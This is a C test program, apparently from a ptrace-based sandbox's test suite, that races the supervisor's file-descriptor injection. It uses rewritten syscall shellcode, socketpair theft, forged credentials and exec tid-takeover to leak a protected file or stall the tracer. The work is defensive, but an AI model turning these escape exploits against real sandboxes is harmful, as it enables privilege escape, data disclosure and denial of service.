/* inject_race: a program that attacks the ptrace backend's descriptor
 * injection (tests/test_escape_tracer.py).
 *
 *   inject_race rewrite LINK N   N times: open /etc/hostname through a
 *                                `syscall` instruction at a fixed page X of
 *                                its own; a second thread waits until the
 *                                tracer's injected socketpair appears, then
 *                                rewrites X into a jump to an open of LINK.
 *                                Prints "LEAK:<line>" when an open gave
 *                                LINK's file, "tries=N" at the end
 *   inject_race spin 1           the same, the instruction rewritten into a
 *                                jump to itself: the caller never stops again
 *   inject_race exit-during-open US  the main thread opens and closes a file
 *                                in a loop; another thread ends the process
 *                                (exit_group(0)) after US microseconds
 *   inject_race steal HOLD       a thread takes the byte the tracer sends over
 *                                the injected socketpair before the injected
 *                                recvmsg runs, and writes one back HOLD
 *                                seconds later; a second process (the
 *                                bystander) opens a file every 20 ms for
 *                                HOLD + 1 s: "worst_ms=T", its longest gap
 *   inject_race creds N [elsewhere]  N opens through a `syscall` of its
 *                                own; a second thread, the moment the
 *                                tracer's injected socketpair appears, writes
 *                                into the scratch memory where the pair's
 *                                numbers lie one end of a socketpair of its
 *                                own (elsewhere: a socket connected to a
 *                                child's listening one), whose other end
 *                                reads credentials (SO_PASSCRED): "sent=N
 *                                by_us=K foreign=F failed=X" (K messages that
 *                                carried this process and its real uid, F
 *                                others; X opens that failed: the pair's
 *                                numbers were rewritten in time)
 *   inject_race fifo-exec FIFO       the leader opens FIFO for reading (no
 *                                writer: a worker of the supervisor waits)
 *                                while another thread, 0.3 s later, execs
 *                                /bin/sleep 2, which takes the leader's tid
 *   inject_race fifo-neighbour DIR  a child A waits to read DIR/a (no
 *                                writer); a child B whose pid shares A's
 *                                modulo 4096 waits to read DIR/b and is
 *                                killed; 0.6 s later: "a=blocked|returned"
 *   inject_race takeover LINK DIR MAX  the leader opens a FIFO of DIR with no
 *                                writer (a worker of the supervisor waits for
 *                                it) while another thread execs this program
 *                                again, which takes the leader's tid; the new
 *                                image opens LINK for 0.25 s while a thread
 *                                signals it (a handled signal) and another
 *                                opens a file, then does the same again, MAX
 *                                images in all. Prints "LEAK:<line>" when an
 *                                open gave LINK's file, "images=N" at the end */
#define _GNU_SOURCE
#include <fcntl.h>
#include <limits.h>
#include <pthread.h>
#include <signal.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#define X 0x10000000UL
static volatile unsigned char *page;
static volatile int armed, watched, spin;

/* X: syscall; ret. X+16: openat(AT_FDCWD, link, O_RDONLY); ret. */
static void write_code(const char *link)
{
    static const unsigned char at_x[] = { 0x0F, 0x05, 0xC3 };
    unsigned char payload[] = {
        0x48, 0xC7, 0xC0, 0x01, 0x01, 0x00, 0x00,          /* mov rax, 257 (openat) */
        0x48, 0xC7, 0xC7, 0x9C, 0xFF, 0xFF, 0xFF,          /* mov rdi, -100 */
        0x48, 0xBE, 0, 0, 0, 0, 0, 0, 0, 0,                /* movabs rsi, link */
        0x31, 0xD2,                                        /* xor edx, edx */
        0x4D, 0x31, 0xD2,                                  /* xor r10, r10 */
        0x0F, 0x05, 0xC3,                                  /* syscall; ret */
    };
    uint64_t where = X + 256;
    memcpy(payload + 16, &where, sizeof(where));
    memcpy((void *)page, at_x, sizeof(at_x));
    memcpy((void *)(page + 16), payload, sizeof(payload));
    strcpy((char *)page + 256, link);
}

static long open_at_x(const char *path)
{
    long rax = SYS_openat;
    register long r10 __asm__("r10") = 0;
    __asm__ volatile("call *%[x]"
                     : "+a"(rax)
                     : [x] "r"(X), "D"((long)AT_FDCWD), "S"(path), "d"((long)O_RDONLY),
                       "r"(r10)
                     : "rcx", "r11", "memory");
    return rax;
}

static void *rewriter(void *arg)
{
    (void)arg;
    for (;;) {
        while (!armed)
            ;
        int want = watched;
        while (armed && fcntl(want, F_GETFD) < 0)
            ;
        if (armed) {
            page[0] = 0xEB;                            /* jmp X+16, or jmp X */
            page[1] = spin ? 0xFE : 0x0E;
        }
        while (armed)
            ;
    }
    return NULL;
}

static int rewrite(const char *link, int tries)
{
    char target[PATH_MAX];
    if (!realpath(link, target))
        snprintf(target, sizeof(target), "%s", link);   /* refused to us: its name then */
    page = mmap((void *)X, 4096, PROT_READ | PROT_WRITE | PROT_EXEC,
                MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED_NOREPLACE, -1, 0);
    if (page == MAP_FAILED) {
        perror("mmap");
        return 1;
    }
    write_code(link);
    pthread_t t;
    pthread_create(&t, NULL, rewriter, NULL);
    int i;
    for (i = 0; i < tries; i++) {
        page[0] = 0x0F;                                /* syscall again */
        page[1] = 0x05;
        int probe = dup(0);                            /* the next free number */
        close(probe);
        watched = probe;
        armed = 1;
        long fd = open_at_x("/etc/hostname");
        armed = 0;
        if (fd >= 0)
            close((int)fd);
        /* whatever the payload's open left in the table (its result went
         * to the tracer, not to us) */
        for (int n = 3; n < 256; n++) {
            char name[32], to[PATH_MAX];
            snprintf(name, sizeof(name), "/proc/self/fd/%d", n);
            ssize_t len = readlink(name, to, sizeof(to) - 1);
            if (len <= 0)
                continue;
            to[len] = '\0';
            if (strcmp(to, target) == 0) {
                char line[128] = "";
                ssize_t got = pread(n, line, sizeof(line) - 1, 0);
                line[got > 0 ? got : 0] = '\0';
                line[strcspn(line, "\n")] = '\0';
                printf("LEAK:%s\n", line);
                close(n);
            }
        }
    }
    printf("tries=%d\n", i);
    return 0;
}

static double now(void)
{
    struct timespec t;
    clock_gettime(CLOCK_MONOTONIC, &t);
    return (double)t.tv_sec + (double)t.tv_nsec / 1e9;
}

static volatile int stolen;

static void *thief(void *arg)
{
    int hold = (int)(uintptr_t)arg;
    char byte;
    while (!stolen)
        for (int fd = 3; fd <= 8 && !stolen; fd++)
            if (recv(fd, &byte, 1, MSG_DONTWAIT) == 1)
                stolen = fd;
    sleep((unsigned)hold);
    for (int fd = 3; fd <= 8; fd++)              /* a byte back: the old tracer's way out */
        if (fd != stolen && send(fd, "x", 1, MSG_DONTWAIT | MSG_NOSIGNAL) == 1)
            break;
    return NULL;
}

static int steal(int hold)
{
    pid_t bystander = fork();
    if (bystander == 0) {
        double start = now(), last = start, worst = 0;
        while (now() - start < hold + 1) {
            int fd = open("/etc/hostname", O_RDONLY | O_CLOEXEC);
            if (fd >= 0)
                close(fd);
            double t = now();
            if (t - last > worst)
                worst = t - last;
            last = t;
            usleep(20000);
        }
        printf("worst_ms=%.0f\n", worst * 1000);
        _exit(0);
    }
    pthread_t t;
    pthread_create(&t, NULL, thief, (void *)(uintptr_t)hold);
    double start = now();
    while (!stolen && now() - start < hold) {
        int fd = open("/etc/hostname", O_RDONLY | O_CLOEXEC);
        if (fd >= 0)
            close(fd);
    }
    printf("stolen=%d\n", stolen);
    waitpid(bystander, NULL, 0);
    _exit(0);
}

static void *ender(void *arg)
{
    usleep((useconds_t)(uintptr_t)arg);
    syscall(SYS_exit_group, 0);
    return NULL;
}

/* ---- creds: the end the tracer sends on, rewritten ----------------------------------- */

static volatile uint64_t scratch_at;
static volatile int creds_armed, creds_watched, creds_evil;

/* openat through a syscall instruction of its own; *sp: the stack pointer
 * there, where the tracer's scratch memory is reckoned from. */
static long open_here_sp(const char *path, uint64_t *sp)
{
    long rax = SYS_openat;
    uint64_t at;
    register long r10 __asm__("r10") = 0;
    __asm__ volatile("mov %%rsp, %[at]\n\tsyscall"
                     : "+a"(rax), [at] "=&r"(at)
                     : "D"((long)AT_FDCWD), "S"(path), "d"((long)O_RDONLY), "r"(r10)
                     : "rcx", "r11", "memory");
    *sp = at;
    return rax;
}

static void *pair_writer(void *arg)
{
    (void)arg;
    for (;;) {
        while (!creds_armed)
            ;
        int want = creds_watched;
        while (creds_armed && fcntl(want, F_GETFD) < 0)
            ;
        if (creds_armed && scratch_at)
            *(volatile int *)(uintptr_t)scratch_at = creds_evil;
        while (creds_armed)
            ;
    }
    return NULL;
}

/* pair[0]: a socket connected to pair[1], accepted by a child of ours
 * that listened (so pair[0]'s peer is the child); pair[1] is our copy of
 * the accepted end, passed back. */
static int connected_elsewhere(int pair[2])
{
    int ctl[2];
    if (socketpair(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0, ctl) < 0)
        return -1;
    struct sockaddr_un addr = { .sun_family = AF_UNIX };
    snprintf(addr.sun_path + 1, sizeof(addr.sun_path) - 1, "yr-inject-%d", (int)getpid());
    socklen_t len = offsetof(struct sockaddr_un, sun_path) + 1 + strlen(addr.sun_path + 1);
    pid_t child = fork();
    if (child == 0) {
        int l = socket(AF_UNIX, SOCK_STREAM, 0);
        if (l < 0 || bind(l, (struct sockaddr *)&addr, len) < 0 || listen(l, 1) < 0)
            _exit(1);
        if (write(ctl[1], "l", 1) != 1)
            _exit(1);
        int a = accept(l, NULL, NULL);
        char b = 'a';
        struct iovec iov = { &b, 1 };
        union { struct cmsghdr h; char buf[CMSG_SPACE(sizeof(int))]; } c;
        memset(&c, 0, sizeof(c));
        struct msghdr m = { .msg_iov = &iov, .msg_iovlen = 1, .msg_control = c.buf,
                            .msg_controllen = sizeof(c.buf) };
        struct cmsghdr *cm = CMSG_FIRSTHDR(&m);
        cm->cmsg_level = SOL_SOCKET;
        cm->cmsg_type = SCM_RIGHTS;
        cm->cmsg_len = CMSG_LEN(sizeof(int));
        memcpy(CMSG_DATA(cm), &a, sizeof(int));
        _exit(sendmsg(ctl[1], &m, 0) == 1 ? 0 : 1);
    }
    char b;
    pair[0] = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
    if (read(ctl[0], &b, 1) != 1 || pair[0] < 0 ||
        connect(pair[0], (struct sockaddr *)&addr, len) < 0)
        return -1;
    struct iovec iov = { &b, 1 };
    union { struct cmsghdr h; char buf[CMSG_SPACE(sizeof(int))]; } c;
    struct msghdr m = { .msg_iov = &iov, .msg_iovlen = 1, .msg_control = c.buf,
                        .msg_controllen = sizeof(c.buf) };
    if (recvmsg(ctl[0], &m, MSG_CMSG_CLOEXEC) != 1 || !CMSG_FIRSTHDR(&m))
        return -1;
    memcpy(&pair[1], CMSG_DATA(CMSG_FIRSTHDR(&m)), sizeof(int));
    waitpid(child, NULL, 0);
    close(ctl[0]);
    close(ctl[1]);
    return 0;
}

static int creds(int tries, int elsewhere)
{
    int pair[2], on = 1;
    if ((elsewhere ? connected_elsewhere(pair) : socketpair(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC,
                                                            0, pair)) < 0 ||
        setsockopt(pair[1], SOL_SOCKET, SO_PASSCRED, &on, sizeof(on)) < 0)
        return 1;
    creds_evil = pair[0];
    pthread_t t;
    pthread_create(&t, NULL, pair_writer, NULL);
    int sent = 0, by_us = 0, foreign = 0, failed = 0;
    uint64_t sp = 0;
    for (int i = 0; i < tries; i++) {
        int probe = dup(0);                            /* the next free number */
        close(probe);
        creds_watched = probe;
        scratch_at = sp ? ((sp - 128 - 512) & ~15ULL) : 0;   /* tracer.c's fd_into */
        creds_armed = 1;
        long fd = open_here_sp("/etc/hostname", &sp);
        creds_armed = 0;
        if (fd >= 0)
            close((int)fd);
        else
            failed++;                                  /* its pair was not the tracer's */
        char byte;
        struct iovec iov = { &byte, 1 };
        union { struct cmsghdr h; char b[CMSG_SPACE(sizeof(struct ucred)) +
                                         CMSG_SPACE(sizeof(int))]; } ctl;
        struct msghdr msg = { .msg_iov = &iov, .msg_iovlen = 1, .msg_control = ctl.b,
                              .msg_controllen = sizeof(ctl.b) };
        while (recvmsg(pair[1], &msg, MSG_DONTWAIT | MSG_CMSG_CLOEXEC) == 1) {
            sent++;
            for (struct cmsghdr *c = CMSG_FIRSTHDR(&msg); c; c = CMSG_NXTHDR(&msg, c)) {
                if (c->cmsg_type == SCM_RIGHTS) {
                    int got;
                    memcpy(&got, CMSG_DATA(c), sizeof(got));
                    close(got);
                } else if (c->cmsg_type == SCM_CREDENTIALS) {
                    struct ucred u;
                    memcpy(&u, CMSG_DATA(c), sizeof(u));
                    if (u.pid == getpid() && u.uid == getuid())
                        by_us++;
                    else
                        foreign++;
                }
            }
            msg.msg_controllen = sizeof(ctl.b);
        }
    }
    printf("sent=%d by_us=%d foreign=%d failed=%d\n", sent, by_us, foreign, failed);
    return 0;
}

/* ---- takeover: a waiting leader's tid taken by an exec ---------------------------- */

static volatile int takeover_done;
static pid_t takeover_pid;
static char takeover_self[PATH_MAX];

static void on_signal(int sig)
{
    (void)sig;
}

static void *signaller(void *arg)
{
    (void)arg;
    while (!takeover_done) {
        syscall(SYS_tgkill, takeover_pid, takeover_pid, SIGRTMIN + 1);
        usleep(300);
    }
    return NULL;
}

static void *opener(void *arg)
{
    while (!takeover_done) {
        int fd = open((const char *)arg, O_RDONLY | O_CLOEXEC);
        if (fd >= 0)
            close(fd);
    }
    return NULL;
}

static double seconds(void)
{
    struct timespec t;
    clock_gettime(CLOCK_MONOTONIC, &t);
    return (double)t.tv_sec + t.tv_nsec / 1e9;
}

/* This image: LINK opened for 0.25 s amid signals and other opens. */
static void takeover_try(const char *link)
{
    pthread_t s, o;
    takeover_done = 0;
    pthread_create(&s, NULL, signaller, NULL);
    pthread_create(&o, NULL, opener, "/etc/hostname");
    for (double end = seconds() + 0.25; seconds() < end;) {
        int fd = open(link, O_RDONLY | O_CLOEXEC);
        if (fd >= 0) {
            char line[64] = { 0 };
            if (read(fd, line, sizeof(line) - 1) > 0)
                printf("LEAK:%s", line);
            close(fd);
        }
    }
    takeover_done = 1;
    pthread_join(s, NULL);
    pthread_join(o, NULL);
    usleep(20000);                               /* the signals sent, delivered */
}

static void *exec_sleep(void *arg)
{
    (void)arg;
    usleep(300000);
    execl("/bin/sleep", "sleep", "2", (char *)NULL);
    _exit(99);
}

static int fifo_exec(const char *fifo)
{
    pthread_t t;
    pthread_create(&t, NULL, exec_sleep, NULL);
    open(fifo, O_RDONLY);                        /* waits: the exec ends this thread */
    pause();
    return 2;
}

static pid_t reader(const char *fifo, int only_if_slot, pid_t of)
{
    int p[2];
    if (pipe(p) < 0)
        return -1;
    pid_t c = fork();
    if (c == 0) {
        close(p[0]);
        if (only_if_slot && getpid() % 4096 != of % 4096)
            _exit(0);
        if (write(p[1], "r", 1) != 1)
            _exit(1);
        close(p[1]);
        _exit(open(fifo, O_RDONLY) < 0);
    }
    close(p[1]);
    char b;
    int ready = read(p[0], &b, 1) == 1;
    close(p[0]);
    if (!ready && c > 0)
        waitpid(c, NULL, 0);
    return ready ? c : 0;
}

static int fifo_neighbour(const char *dir)
{
    char a_fifo[PATH_MAX], b_fifo[PATH_MAX];
    snprintf(a_fifo, sizeof(a_fifo), "%s/a", dir);
    snprintf(b_fifo, sizeof(b_fifo), "%s/b", dir);
    if (mkfifo(a_fifo, 0600) < 0 || mkfifo(b_fifo, 0600) < 0)
        return 1;
    pid_t a = reader(a_fifo, 0, 0), b = 0;
    for (int tries = 0; a > 0 && b == 0 && tries < 40000; tries++)
        b = reader(b_fifo, 1, a);
    if (a <= 0 || b <= 0)
        return 1;
    usleep(400000);                              /* both wait in their opens */
    kill(b, SIGKILL);
    waitpid(b, NULL, 0);
    usleep(600000);
    int returned = waitpid(a, NULL, WNOHANG) == a;
    printf("a=%s\n", returned ? "returned" : "blocked");
    kill(a, SIGKILL);
    waitpid(a, NULL, 0);
    return 0;
}

static const char *takeover_args[8];

static void *execer(void *arg)
{
    usleep(40000);                               /* the leader waits in its open by now */
    execv(takeover_self, (char *const *)arg);
    _exit(99);
}

static int takeover(const char *link, const char *dir, int max, int image)
{
    takeover_pid = getpid();
    struct sigaction sa;
    memset(&sa, 0, sizeof(sa));
    sa.sa_handler = on_signal;
    sigaction(SIGRTMIN + 1, &sa, NULL);
    if (image > 0)
        takeover_try(link);
    if (image >= max) {
        printf("images=%d\n", image);
        return 0;
    }
    char fifo[PATH_MAX], next[16], maxs[16];
    snprintf(fifo, sizeof(fifo), "%s/f.%d.%d", dir, (int)getpid(), image);
    unlink(fifo);
    if (mkfifo(fifo, 0600) < 0)
        return 1;
    snprintf(next, sizeof(next), "%d", image + 1);
    snprintf(maxs, sizeof(maxs), "%d", max);
    const char *args[] = { takeover_self, "takeover", link, dir, maxs, next, NULL };
    memcpy(takeover_args, args, sizeof(args));
    pthread_t e;
    pthread_create(&e, NULL, execer, takeover_args);
    open(fifo, O_RDONLY);                        /* waits: the exec ends this thread */
    pause();
    return 2;
}

int main(int argc, char **argv)
{
    setvbuf(stdout, NULL, _IONBF, 0);
    if (argc == 4 && strcmp(argv[1], "rewrite") == 0)
        return rewrite(argv[2], atoi(argv[3]));
    if (argc == 3 && strcmp(argv[1], "spin") == 0) {
        spin = 1;
        return rewrite("/etc/hostname", atoi(argv[2]));
    }
    if (argc == 3 && strcmp(argv[1], "fifo-neighbour") == 0)
        return fifo_neighbour(argv[2]);
    if (argc == 3 && strcmp(argv[1], "fifo-exec") == 0)
        return fifo_exec(argv[2]);
    if ((argc == 3 || argc == 4) && strcmp(argv[1], "creds") == 0)
        return creds(atoi(argv[2]), argc == 4 && strcmp(argv[3], "elsewhere") == 0);
    if ((argc == 5 || argc == 6) && strcmp(argv[1], "takeover") == 0) {
        if (readlink("/proc/self/exe", takeover_self, sizeof(takeover_self) - 1) < 0)
            return 1;
        return takeover(argv[2], argv[3], atoi(argv[4]), argc == 6 ? atoi(argv[5]) : 0);
    }
    if (argc == 3 && strcmp(argv[1], "steal") == 0)
        return steal(atoi(argv[2]));
    if (argc == 3 && strcmp(argv[1], "exit-during-open") == 0) {
        pthread_t t;
        pthread_create(&t, NULL, ender, (void *)(uintptr_t)atol(argv[2]));
        for (;;) {
            int fd = open("/etc/hostname", O_RDONLY | O_CLOEXEC);
            if (fd >= 0)
                close(fd);
        }
    }
    fprintf(stderr, "usage: see the comment at the top\n");
    return 2;
}
